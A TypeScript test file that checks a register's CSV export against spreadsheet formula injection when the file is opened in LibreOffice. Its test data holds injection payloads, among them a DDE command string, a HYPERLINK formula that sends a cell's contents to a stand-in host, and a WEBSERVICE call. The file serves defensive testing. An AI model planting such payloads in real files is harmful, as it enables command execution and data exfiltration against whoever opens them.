// The register's CSV opened by a real office program: nothing anybody wrote into an entry is taken for a formula, and no entry is lost.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../incidents/export.ts';
import { rowsOf } from '../../incidents/joining.ts';
import { convert, hasOffice } from '../libre-office.ts';
import { incidentEntry, reportEntry, t } from './entries.ts';
import { attackingEntries } from './script-everywhere.ts';

const folder = mkdtempSync(join(tmpdir(), 'gatehouse-csv-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://elsewhere.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://elsewhere.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  'a","=1+1',
  'a\n=1+1',
  'a;=1+1',
  'a;=1+1;b',
  'a; =1+1;b',
  'a\t=1+1\tb',
  'a;-1+1',
  'a\r\n+1+1;b',
];

/** What cells are parted by, as character codes: the comma; all that the program's dialog offers; what is the list separator in Germany. */
const separators = { comma: '44', any: '44/59/9', semicolon: '59' };

/** The sheet as the program has it, as flat XML. */
function opened(csv: string, name: string, separator = separators.comma): string {
  const path = join(folder, `${name}.csv`);
  writeFileSync(path, csv);
  // 34: quotes, 76: UTF-8; formulas are evaluated, as when somebody opens the file by hand.
  const filter = `--infilter=Text - txt - csv (StarCalc):${separator},34,76,1,,0,false,true,false,false,false,-1,true`;
  convert(folder, [path], 'fods', filter);
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
}

describe.skipIf(!hasOffice)('the CSV in LibreOffice', () => {
  it.each(Object.entries(separators))(
    'has a formula where one is written raw, by %s: what this looks for can be found',
    { timeout: 200_000 },
    (by, separator) => {
      const written = by === 'semicolon' ? 'a;=1+1;b' : 'a,b\n=1+1,x\n';
      expect(opened(written, `raw-${by}`, separator)).toMatch(/table:formula=/);
    },
  );

  it.each(Object.entries(separators))(
    'has none in any field anybody can write, by %s, and every entry',
    { timeout: 200_000 },
    (by, separator) => {
      const entries = formulas.flatMap((formula, index) => [
        incidentEntry(2 * index + 1, {
          actor: { value: formula, from: 'account' },
          extensionVersion: formula.slice(0, 40),
          policy: { version: formula.slice(0, 60), hash: 'ab'.repeat(32), source: 'managed' },
          reason: { code: 'other', text: formula },
          recipients: { count: 1, domains: [formula], fingerprints: [], addresses: [formula] },
          place: { webmail: formula, host: formula },
        }),
        reportEntry(2 * index + 2, { what: formula, when: formula, actor: { value: formula, from: 'policy' } }),
      ]);
      entries.push(...attackingEntries(1, 0, '=1+1;"'));
      const rows = rowsOf(entries.map((entry) => ({ entry })));
      const sheet = opened(toCsv(rows, t), by, separator);
      expect(sheet).not.toMatch(/table:formula=/);
      const text = sheet.replaceAll(/<[^>]+>/g, '\n');
      for (const { id } of rows) expect(text, id).toContain(id);
      expect(rows).toHaveLength(2 * formulas.length + 2);
    },
  );
});
